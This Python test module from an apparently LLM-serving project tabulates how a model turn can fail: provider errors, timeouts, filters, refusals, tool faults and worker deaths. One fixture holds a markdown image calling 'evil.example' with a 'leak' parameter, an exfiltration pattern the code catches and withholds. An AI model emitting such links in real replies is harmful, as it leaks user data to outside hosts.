"""Every way a turn can fail, and what comes of it. ``docs/failures.md`` prints this table; a test plays each row."""

from dataclasses import dataclass
from typing import Any

from lanekeeper.lines import HONEST_LINE, REFUSED_LINE, TOO_LONG_LINE, WITHHELD_LINE
from tests.integration.turn.toys import CRASH, DAWDLE, PRICE, call

Reply = dict[str, Any]

OWLS = "Owls hunt at night. "
SAYS: Reply = {"text": "Hello."}
MORE: Reply = {"text": f"{OWLS}They hear very well, and see."}
PICTURE: Reply = {"text": f"{OWLS}![x](https://evil.example/?leak=1) They see."}
TALL: Reply = {"text": "Owls hunt ", "finish_reason": "length"}
NO = "I would rather not help with that."
FILTERED: Reply = {"text": "", "finish_reason": "content_filter"}
LINES = {
    HONEST_LINE.en: "the honest line",
    TOO_LONG_LINE.en: "the line that the answer is full",
    REFUSED_LINE.en: "the line that this is not possible here",
    WITHHELD_LINE.en: "the line that the rest may not be sent",
}


@dataclass(frozen=True, kw_only=True)
class Case:
    """One way to fail.

    Attributes:
        name: what happens.
        replies: what the model does, call by call.
        sees: the text parts that the person is left with.
        state: of the turn.
        failure: the turn's word for operators.
        calls: status of each model call's cost row.
        counted: the limits that were counted.
        tool: how the tool part ends, where a tool was called.
        weather: what happens to the machines meanwhile.
    """

    name: str
    replies: tuple[Reply, ...]
    sees: tuple[str, ...]
    state: str = "done"
    failure: str = ""
    calls: tuple[str, ...] = ("exact",)
    counted: tuple[str, ...] = ()
    tool: str = ""
    weather: str = ""

    def row(self) -> str:
        """The case as a line of the document's table."""
        said = [LINES.get(text, "its words so far" if text in SO_FAR else "an answer") for text in self.sees]
        stored = f"{self.state}, `{self.failure}`" if self.failure else self.state
        tool = f"; the call ends as `{self.tool}`" if self.tool else ""
        counted = ", ".join(f"`{kind}`" for kind in self.counted) or "nothing"
        return f"| {self.name} | {', then '.join(said)}{tool} | {stored} | {', '.join(self.calls)} | {counted} |"


SO_FAR = {OWLS, "Owls hunt ", "Owls hunt at "}


def twice(name: str, reply: Reply, failure: str, *calls: str, sees: str = "") -> Case:
    """The same failure on the first call and on the quiet second one."""
    parts = (sees, HONEST_LINE.en) if sees else (HONEST_LINE.en,)
    return Case(
        name=f"{name}, twice",
        replies=(reply, reply),
        sees=parts,
        state="failed",
        failure=failure,
        calls=calls or ("failed", "failed"),
        counted=(failure,),
    )


def tool(name: str, reply: Reply, ends: str = "output-error") -> Case:
    """A tool call that comes to nothing; the model is told and answers."""
    return Case(name=name, replies=(reply, SAYS), sees=("Hello.",), calls=("exact", "exact"), tool=ends)


CASES = (
    Case(
        name="the provider answers 429, once",
        replies=({"error": 429}, SAYS),
        sees=("Hello.",),
        calls=("failed", "exact"),
    ),
    twice("the provider answers 429", {"error": 429}, "model_rate_limited"),
    twice("the provider answers 500", {"error": 500}, "model_unavailable"),
    twice("the provider answers 503", {"error": 503}, "model_unavailable"),
    twice("silence before the first token", {"error": "timeout"}, "model_timeout"),
    twice("silence after the first words", {**MORE, "error": "timeout"}, "model_timeout", sees=OWLS),
    twice("the stream is cut before the first whole word", {"error": "cut", "text": "Hello"}, "model_cut"),
    twice("the stream is cut after the first words", {**MORE, "error": "cut"}, "model_cut", sees=OWLS),
    Case(
        name="the stream is cut after the first words, once",
        replies=({**MORE, "error": "cut"}, {"text": "And they hear well."}),
        sees=(f"{OWLS}And they hear well.",),
        calls=("failed", "exact"),
    ),
    twice("an empty answer", {"text": ""}, "model_empty", "exact", "exact"),
    Case(
        name="the answer reaches its length limit, once",
        replies=(TALL, {"text": "at night."}),
        sees=("Owls hunt at night.",),
        calls=("exact", "exact"),
        counted=("length",),
    ),
    Case(
        name="the answer reaches its length limit, twice",
        replies=(TALL, {"text": "at ", "finish_reason": "length"}),
        sees=("Owls hunt at ", TOO_LONG_LINE.en),
        failure="length",
        calls=("exact", "exact"),
        counted=("length", "length_line"),
    ),
    Case(
        name="the provider's filter holds the answer back, twice",
        replies=(FILTERED, FILTERED),
        sees=(REFUSED_LINE.en,),
        failure="content_filter",
        calls=("exact", "exact"),
        counted=("content_filter", "content_filter_line"),
    ),
    Case(
        name="the provider's filter ends the answer half-way",
        replies=({"text": OWLS, "finish_reason": "content_filter"},),
        sees=(OWLS, REFUSED_LINE.en),
        failure="content_filter",
        counted=("content_filter_line",),
    ),
    Case(
        name="the model refuses, and says so itself",
        replies=({"refusal": NO},),
        sees=(NO,),
    ),
    Case(
        name="the provider refuses half-way",
        replies=({"text": OWLS, "finish_reason": "refusal"},),
        sees=(OWLS, REFUSED_LINE.en),
        failure="content_filter",
        counted=("content_filter_line",),
    ),
    Case(
        name="the provider refuses without a word, twice",
        replies=({"text": "", "finish_reason": "refusal"},) * 2,
        sees=(REFUSED_LINE.en,),
        failure="content_filter",
        calls=("exact", "exact"),
        counted=("content_filter", "content_filter_line"),
    ),
    Case(
        name="the answer breaks its contract, once",
        replies=(PICTURE, {"text": "They hear well."}),
        sees=(f"{OWLS}They hear well.",),
        calls=("estimated", "exact"),
        counted=("contract_image",),
    ),
    Case(
        name="the answer breaks its contract, twice",
        replies=(PICTURE, PICTURE),
        sees=(OWLS, WITHHELD_LINE.en),
        failure="contract_image",
        calls=("estimated", "estimated"),
        counted=("contract_image", "contract_image_line"),
    ),
    tool("arguments that cannot be read", {"calls": [{"name": PRICE.name, "args": '{"name": "ow'}]}),
    tool("arguments of the wrong kind", {"calls": [{"name": PRICE.name, "args": {"owl": 3}}]}),
    tool("a tool that does not exist", {"calls": [{"name": "test_nothing", "args": {}}]}),
    tool("a tool that crashes", {"calls": [call(CRASH)]}),
    tool("a tool that takes too long", {"calls": [call(DAWDLE)]}),
    Case(
        name="more model calls than a turn may have",
        replies=tuple({"calls": [call(PRICE)]} for _ in range(6)),
        sees=(HONEST_LINE.en,),
        state="failed",
        failure="model_steps",
        calls=("exact",) * 6,
        counted=("model_steps",),
        tool="output-available",
    ),
    Case(
        name="a fault of our own",
        replies=(),
        sees=(HONEST_LINE.en,),
        state="failed",
        failure="internal",
        calls=(),
        counted=("internal",),
        weather="broken",
    ),
    Case(
        name="the database is away for a while",
        replies=({**SAYS, "delay_s": 0.5}, SAYS),
        sees=("Hello.",),
        calls=("estimated", "exact"),
        weather="outage",
    ),
    Case(
        name="the worker dies, once",
        replies=(SAYS, SAYS),
        sees=("Hello.",),
        calls=("estimated", "exact"),
        weather="death",
    ),
    Case(
        name="the worker dies, three times",
        replies=(SAYS, SAYS, SAYS),
        sees=("Hello.", HONEST_LINE.en),
        state="failed",
        failure="deaths",
        calls=("estimated",) * 3,
        counted=("deaths",),
        weather="deaths",
    ),
)
